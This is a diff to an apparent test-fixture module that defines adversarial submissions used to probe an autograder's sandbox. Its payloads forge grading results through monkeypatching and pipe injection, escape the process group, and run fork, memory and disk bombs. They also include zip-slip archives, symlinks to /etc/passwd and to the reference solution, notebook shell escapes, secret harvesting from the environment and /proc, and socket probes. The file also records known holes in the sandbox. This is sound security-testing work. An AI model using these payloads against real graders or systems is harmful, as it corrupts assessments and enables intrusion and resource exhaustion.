@@ -12,6 +12,7 @@ attack can aim at the real out folder, rubric or sibling submissions of this run
 
 from __future__ import annotations
 
+import json
 import textwrap
 from collections.abc import Mapping
 from dataclasses import dataclass, field
@@ -51,7 +52,7 @@ class Attack:
     name: str
     what: str
     attacked: Mapping[str, str] = field(default_factory=dict)  # item id -> its final status
-    score: float = 95.0  # the exact automatic score it deserves
+    score: float = 95  # the exact automatic score it deserves
     files: Mapping[str, str | bytes] = field(default_factory=dict)  # over alice's files
     remove: tuple[str, ...] = ()  # alice's files left out
     symlinks: Mapping[str, str] = field(default_factory=dict)  # name -> target (made at test time)
@@ -61,7 +62,9 @@ class Attack:
     filename: str = ""  # the submission's file or folder name, when not derived from ``name``
     rejected: bool = False  # the whole submission is refused (0, an error in its record)
     victims: tuple[str, ...] = ()  # paths it aims at that a dedicated test checks
-    hole: str = ""  # a hole this attack exposes (its dedicated test is a strict xfail)
+    hole: str = ""  # a hole this attack exposes, found by the check named in ``exposes``
+    exposes: str = ""  # the check it defeats: score, victims, survivors, nproc, fifo, lines,
+    #                    network, disk or ipc
 
     @property
     def source_name(self) -> str:
@@ -74,14 +77,18 @@ class Attack:
         return name[:-4] if name.lower().endswith(".zip") else name
 
 
-def patched(file: str, extra: str) -> str:
+def _code(pieces: tuple[str, ...]) -> str:
+    return "\n".join(textwrap.dedent(p).strip("\n") for p in pieces) + "\n"
+
+
+def patched(file: str, *extra: str) -> str:
     """alice's module with ``extra`` appended: later definitions replace hers."""
-    return ALICE[file] + "\n\n" + textwrap.dedent(extra).strip("\n") + "\n"
+    return ALICE[file] + "\n\n" + _code(extra)
 
 
-def prepended(file: str, code: str) -> str:
+def prepended(file: str, *code: str) -> str:
     """alice's module with ``code`` run before any of it."""
-    return textwrap.dedent(code).strip("\n") + "\n\n" + ALICE[file]
+    return _code(code) + "\n" + ALICE[file]
 
 
 def items(*ids: str, status: str) -> dict[str, str]:
@@ -297,8 +304,8 @@ attack("json_dumps_monkeypatch", "at import, json.dumps is replaced so every rep
        """)})
 
 attack("os_write_monkeypatch", "at import, os.write swallows everything: the worker's replies "
-       "never leave",
-       module("problem4", "timeout"), 74,
+       "never leave, and the worker ends without a word",
+       module("problem4", "crashed"), 74,
        files={"problem4.py": patched("problem4.py", """
            import os
            _real_write = os.write
@@ -329,7 +336,7 @@ attack("grader_worker_monkeypatch", "at import, grader.worker.Worker.describe is
            import sys
            _worker, _wire = sys.modules["grader.worker"], sys.modules["grader.wire"]
            def _describe(self, exc):
-               return {"status": "ok", "value": _wire.encode(np.zeros(3)), "passed": True}
+               return {"status": "ok", "value": _wire.encode(np.full(3, 7.0)), "passed": True}
            _worker.Worker.describe = _describe
            def relu(z):
                raise ValueError("not done")
@@ -431,7 +438,8 @@ attack("fake_results_printed", "prints fake reply lines and a fake score to stdo
                return 0.0
        """)})
 
-attack("result_fd_injection", "at import, finds the reply pipe with fstat and writes forged "
+attack("result_fd_injection", "at import, finds the reply pipe (/proc/self/fd, else fstat on "
+       "every small fd) and writes forged "
        "replies for the LATER steps (claiming passed and full points, and one with status "
        "'passed'); its own answers are all wrong. The channel it garbled fails the rest",
        {**items("p2.forward", "p2.f_all_ones", "p2.count_parameters", status="failed"),
@@ -447,7 +455,7 @@ attack("result_fd_injection", "at import, finds the reply pipe with fstat and wr
            def count_parameters(layer_sizes):
                return 0
            def _claim(step, status="ok"):
-               return {"id": step, "status": status, "value": 0.0, "passed": True,
+               return {"id": step, "status": status, "value": -1.0, "passed": True,
                        "score": 16, "output": ""}
            _LINES = [{"id": "import:problem2", "status": "ok", "value": None, "output": ""}]
            _LINES += [_claim(f"p2.forward#{i}") for i in range(5)]
@@ -455,7 +463,11 @@ attack("result_fd_injection", "at import, finds the reply pipe with fstat and wr
            _LINES += [_claim(f"p2.count_parameters#{i}") for i in range(5)]
            _LINES += [_claim("p2.n_params", status="passed")]
            _DATA = "".join(json.dumps(line) + "\\n" for line in _LINES).encode()
-           for _fd in range(3, 64):
+           try:
+               _fds = [int(fd) for fd in os.listdir("/proc/self/fd")]
+           except OSError:  # /proc is out of reach: try every small descriptor
+               _fds = range(3, 64)
+           for _fd in _fds:
                try:
                    if stat.S_ISFIFO(os.fstat(_fd).st_mode):
                        os.write(_fd, _DATA)
@@ -467,6 +479,7 @@ attack("result_fd_injection", "at import, finds the reply pipe with fstat and wr
 
 attack("detached_grandchild", "at import, double-forks a grandchild in a new session that "
        "execs Python with a marker in its argv and keeps trying to rewrite results files",
+       exposes="survivors",
        hole="a grandchild that calls setsid() leaves the worker's process group, so "
             "_killpg() in execution.py misses it and it outlives the grading",
        files={"problem3.py": patched("problem3.py", """
@@ -476,7 +489,7 @@ attack("detached_grandchild", "at import, double-forks a grandchild in a new ses
            import sys, time
            end = time.monotonic() + 40
            while time.monotonic() < end:
-               for path in sys.argv[1:-1]:
+               for path in sys.argv[2:]:
                    try:
                        with open(path, "w") as f:
                            f.write('{"score": 95, "forged": "GADV-@NONCE@"}')
@@ -492,9 +505,9 @@ attack("detached_grandchild", "at import, double-forks a grandchild in a new ses
                    try:
                        os.setsid()
                        if os.fork() == 0:
-                           code = "\\n".join(line[4:] for line in _LOOP.splitlines())
-                           os.execv(sys.executable, [sys.executable, "-c", code, *_TARGETS,
-                                                     "GADV-@NONCE@-detached_grandchild"])
+                           os.execv(sys.executable, [sys.executable, "-c", _LOOP,
+                                                     "GADV-@NONCE@-detached_grandchild",
+                                                     *_TARGETS])
                    finally:
                        os._exit(0)
                os.waitpid(pid, 0)
@@ -502,19 +515,29 @@ attack("detached_grandchild", "at import, double-forks a grandchild in a new ses
        """)})
 
 attack("many_processes", "at import, forks 200 sleeping children renamed with a marker "
-       "(a bounded stand-in for a fork bomb)",
+       "(a bounded stand-in for a fork bomb); REASONS says how many forks succeeded",
+       exposes="nproc",
+       hole="nothing limits how many processes a worker starts (no RLIMIT_NPROC, pids "
+            "cgroup or seccomp filter): a real fork bomb would stall the whole machine",
        files={"problem1.py": patched("problem1.py", """
            import ctypes
            import os
            import time
            _libc = ctypes.CDLL(None)
+           _forked = 0
            for _ in range(200):
-               if os.fork() == 0:
+               try:
+                   pid = os.fork()
+               except OSError:
+                   continue
+               if pid == 0:
                    try:
                        _libc.prctl(15, b"gadv@NONCE@", 0, 0, 0)
                        time.sleep(60)
                    finally:
                        os._exit(0)
+               _forked += 1
+           REASONS = f"forked {_forked} of 200"
        """)})
 
 attack("memory_bomb_at_call", "l2_update allocates 80 GB",
@@ -525,12 +548,14 @@ attack("memory_bomb_at_call", "l2_update allocates 80 GB",
                return hog[:1]
        """)})
 
-attack("memory_bomb_at_import", "problem3 grows a list of 64 MB blocks at import until it fails",
+attack("memory_bomb_at_import", "problem3 grows a list of 256 MB arrays at import until it "
+       "fails",
        module("problem3", "error"), 72,
        files={"problem3.py": prepended("problem3.py", """
+           import numpy as np
            _hog = []
            while True:
-               _hog.append(bytearray(64 * 2**20))
+               _hog.append(np.empty(2**25))
        """)})
 
 attack("cpu_loop_at_import", "problem4 loops forever at import",
@@ -560,8 +585,9 @@ attack("cpu_loop_ignoring_the_alarm", "forward ignores SIGALRM, swallows every e
                        pass
        """)})
 
-attack("output_flood", "relu_grad prints 100 MB, then writes without end to fds 1 and 2",
-       items("p3.relu_grad", status="crashed"), 87,
+attack("output_flood", "relu_grad prints 100 MB, then writes without end to fds 1 and 2 "
+       "(the file-size limit stops its stderr file at 64 MB: EFBIG, Python ignores SIGXFSZ)",
+       items("p3.relu_grad", status="error"), 87,
        files={"problem3.py": patched("problem3.py", """
            import os
            def relu_grad(z):
@@ -578,6 +604,7 @@ attack("output_flood", "relu_grad prints 100 MB, then writes without end to fds 
 attack("disk_fill", "at import, ignores SIGXFSZ and writes four 32 MB files and one endless "
        "file in its folder (and tries /tmp); count_parameters returns the bytes written",
        items("p2.count_parameters", status="failed"), 87,
+       exposes="disk",
        hole="RLIMIT_FSIZE caps each file, not the total: a submission can fill the disk "
             "with many files in its private folder",
        files={"problem2.py": patched("problem2.py", """
@@ -619,7 +646,7 @@ attack("huge_return_value", "one_hot returns a list of 10**7 numbers",
        items("p1.one_hot", status="failed"), 89,
        files={"problem1.py": patched("problem1.py", """
            def one_hot(labels, num_classes=10):
-               return list(range(10**7))
+               return [0] * 10**7
        """)})
 
 attack("deeply_nested_return", "softmax returns a list nested 10**5 deep",
@@ -635,6 +662,7 @@ attack("deeply_nested_return", "softmax returns a list nested 10**5 deep",
 attack("int_too_large_for_float", "count_parameters returns 10**400, a plain int the wire "
        "accepts (1000 digits) but float() cannot convert",
        items("p2.count_parameters", status="failed"), 87,
+       exposes="score",
        hole="compare.as_number() calls float() on a decoded int of up to 1000 digits: "
             "OverflowError escapes grading and the whole submission scores 0 as 'the grader "
             "failed'",
@@ -647,7 +675,10 @@ attack("int_too_large_for_float", "count_parameters returns 10**400, a plain int
 
 attack("symlink_to_rubric", "problem2.py is a symlink to the reference solution, beside links "
        "to the rubric and the reference folder",
-       module("problem2", "error"), 61, remove=("problem2.py",),
+       module("problem2", "error"), 61, remove=("problem2.py",), exposes="lines",
+       hole="pipeline._definition_lines() follows a module symlink out of the submission and "
+            "parses the file it points at in the grader: the report shows the line numbers "
+            "of the reference solution's definitions",
        symlinks={"problem2.py": "@REFERENCE@/problem2.py", "rubric.yaml": "@RUBRIC@",
                  "reference": "@REFERENCE@"})
 
@@ -655,15 +686,16 @@ attack("symlink_to_etc_passwd", "problem4.py is a symlink to /etc/passwd; proble
        "a linked passwd.txt into REASONS",
        module("problem4", "error"), 74, remove=("problem4.py",),
        symlinks={"problem4.py": "/etc/passwd", "passwd.txt": "/etc/passwd"},
-       files={"problem1.py": patched("problem1.py", _TRY + """
+       files={"problem1.py": patched("problem1.py", _TRY, """
            REASONS = _try("passwd.txt", lambda: open("passwd.txt").read())
        """)})
 
 attack("zip_slip", "a zip whose members climb out with ../, an absolute path and a "
        "Windows-style ..\\\\ path", zip=True, rejected=True, score=0,
-       members=(Member("../../gadv_zipslip.py", b"GADV = 1\n"),
+       members=(Member("../../../gadv_zipslip.py", b"GADV = 1\n"),
+                Member("../" * 16 + "tmp/gadv_zipslip_@NONCE@.py", b"GADV = 1\n"),
                 Member("@VICTIMS@/absolute.py", b"GADV = 1\n"),
-                Member("..\\..\\gadv_windows.py", b"GADV = 1\n")))
+                Member("..\\..\\..\\gadv_windows.py", b"GADV = 1\n")))
 
 attack("zip_bomb", "a zip with a 100 MB member of zeros (about 100 kB compressed)",
        zip=True, rejected=True, score=0, members=(Member("weights.bin", zeros=100 * 2**20),))
@@ -694,15 +726,27 @@ attack("null_byte_source", "problem3.py holds a null byte",
 
 attack("fifo_in_submission", "problem1.py is a named pipe: whoever opens it blocks",
        module("problem1", "error"), 78, remove=("problem1.py",), fifos=("problem1.py",),
+       exposes="fifo",
        hole="pipeline._definition_lines() reads <module>.py from the ORIGINAL submission "
             "folder in the grader process: a named pipe blocks the batch forever (a symlink "
             "to /dev/zero would exhaust the grader's memory)")
+
+_NOTEBOOK_CELLS = ["!touch @VICTIMS@/pwned_shell", "%run /etc/passwd",
+                   "get_ipython().system('touch @VICTIMS@/pwned_ipython')",
+                   "%%bash\ntouch @VICTIMS@/pwned_cell", ALICE["problem4.py"]]
+attack("notebook_shell_escape", "problem4 is a notebook whose cells hold shell escapes, "
+       "magics and get_ipython() calls aimed at the test's folders, beside alice's code",
+       remove=("problem4.py",),
+       files={"problem4.ipynb": json.dumps({
+           "nbformat": 4, "nbformat_minor": 5, "metadata": {},
+           "cells": [{"cell_type": "code", "source": c, "metadata": {}, "outputs": [],
+                      "execution_count": None} for c in _NOTEBOOK_CELLS]})})
 
 # --- secrets and reading what it must not ---------------------------------------------------
 
 attack("env_secrets", "REASONS is the worker's os.environ, /proc/*/environ and any str in "
        "gc holding the secret's name",
-       files={"problem1.py": patched("problem1.py", _TRY + """
+       files={"problem1.py": patched("problem1.py", _TRY, """
            import gc
            import os
            def _environment():
@@ -731,7 +775,7 @@ attack("read_rubric_by_absolute_path", "at import, opens the reference problem2.
 
 attack("read_by_dotdot_and_proc", "REASONS collects reads of the rubric and of sibling "
        "submissions through ../ paths, /proc/<ppid>/cwd, environ and cmdline, and /proc/self/fd",
-       files={"problem1.py": patched("problem1.py", _TRY + """
+       files={"problem1.py": patched("problem1.py", _TRY, """
            import os
            _up = "../" * 12
            _ppid = os.getppid()
@@ -785,7 +829,7 @@ attack("gc_for_expected", "count_parameters searches gc.get_objects() for expect
 
 attack("write_everywhere", "at import, tries to write sibling submissions, its own and "
        "others' reports, the gradebook, the rubric copy, the canary, the grader and /tmp",
-       files={"problem3.py": patched("problem3.py", _TRY + """
+       files={"problem3.py": patched("problem3.py", _TRY, """
            import os
            def _append(path):
                with open(path, "a") as f:
@@ -824,7 +868,7 @@ def _connect(host, port, kind=socket.SOCK_STREAM):
 
 attack("loopback_tcp", "REASONS is the outcome of connecting to the test's listener on "
        "127.0.0.1, to 127.0.0.2, and of binding a listening port",
-       files={"problem1.py": patched("problem1.py", _CONNECT + """
+       files={"problem1.py": patched("problem1.py", _CONNECT, """
            def _bind():
                with socket.socket() as s:
                    s.bind(("127.0.0.1", 0))
@@ -836,16 +880,17 @@ attack("loopback_tcp", "REASONS is the outcome of connecting to the test's liste
 
 attack("public_network", "WEIGHT_DECAY_EXPLANATION is the outcome of TCP connects to a "
        "public and an unroutable address (each must fail at once, not time out)",
-       files={"problem4.py": patched("problem4.py", _CONNECT + """
+       files={"problem4.py": patched("problem4.py", _CONNECT, """
            WEIGHT_DECAY_EXPLANATION = "\\n".join([_connect("192.0.2.1", 80),
                                                   _connect("1.1.1.1", 443)])
        """)})
 
 attack("udp_loopback", "sends a UDP datagram to the test's socket on 127.0.0.1 (and one to a "
        "public address)",
+       exposes="network",
        hole="Landlock (ABI <= 7) restricts TCP only: UDP sockets reach loopback services and "
             "the network",
-       files={"problem4.py": patched("problem4.py", _CONNECT + """
+       files={"problem4.py": patched("problem4.py", _CONNECT, """
            WEIGHT_DECAY_EXPLANATION = "\\n".join([
                _connect("127.0.0.1", @UPORT@, socket.SOCK_DGRAM),
                _connect("192.0.2.1", 53, socket.SOCK_DGRAM)])
@@ -853,9 +898,10 @@ attack("udp_loopback", "sends a UDP datagram to the test's socket on 127.0.0.1 (
 
 attack("unix_socket_connect", "connects to a Unix socket the test listens on (think "
        "/run/docker.sock or an ssh-agent)",
+       exposes="network",
        hole="Landlock (ABI <= 7) does not restrict connect() on pathname Unix sockets: any "
             "local service listening on one is reachable",
-       files={"problem4.py": patched("problem4.py", _TRY + """
+       files={"problem4.py": patched("problem4.py", _TRY, """
            import socket
            def _unix():
                with socket.socket(socket.AF_UNIX) as s:
@@ -922,6 +968,7 @@ attack("report_injection", "script, HTML and Markdown in APPROACH, REASONS, prin
 attack("stderr_fifo", "at import, replaces its worker's stderr.txt (in its private folder) "
        "with a named pipe, then exits so the grader reads it",
        module("problem4", "crashed"), 74,
+       exposes="fifo",
        hole="execution._death_message() reads private/stderr.txt, which the worker may "
             "replace: a named pipe blocks the grader forever (a symlink to /dev/zero would "
             "exhaust its memory)",
@@ -937,6 +984,7 @@ attack("private_symlink_clobber", "at import, plants symlinks named plan.json an
        "is launched in the same folder",
        module("problem1", "crashed"), 78,
        victims=("@VICTIMS@/plan_victim.txt", "@VICTIMS@/stderr_victim.txt"),
+       exposes="victims",
        hole="after a worker dies, the next worker reuses the private folder: the grader "
             "writes plan.json and the fork server opens stderr.txt with O_TRUNC through the "
             "dead worker's symlinks, overwriting any file the grader may write",
@@ -958,6 +1006,7 @@ attack("workdir_symlink_escape", "at import, replaces private/submission with a 
        module("problem1", "crashed"), 78,
        victims=("@CLASS@/gadv_workdir_escape.txt",
                 "@CLASS@/bob_forgot_biases/gadv_workdir_escape.txt"),
+       exposes="victims",
        hole="worker.run_plan() resolves plan['root'] and confines writes to root.parent: a "
             "dead worker's symlink at private/submission makes the next worker writable on "
             "any folder's parent (here, every submission)",
@@ -983,6 +1032,7 @@ attack("workdir_symlink_escape", "at import, replaces private/submission with a 
 
 attack("sysv_ipc_leak", "at import, creates a System V shared-memory segment and message "
        "queue, which no process owns",
+       exposes="ipc",
        hole="System V IPC objects outlive the worker (no IPC namespace): a submission can "
             "leave shared memory behind, RAM that no rlimit or kill reclaims",
        files={"problem4.py": patched("problem4.py", """
@@ -996,6 +1046,7 @@ attack("dotdot_zip_name", "alice's modules in a zip named '...zip', so the batch
        "submission '..'", zip=True, filename="...zip",
        victims=("@OUTPARENT@/report.html", "@OUTPARENT@/report.md",
                 "@OUTPARENT@/results.json", "@OUTPARENT@/.grader-state.json"),
+       exposes="victims",
        hole="batch.submission_name() turns '...zip' into '..', and _grade_one() writes its "
             "reports and state file to out/.., outside the out folder")
 
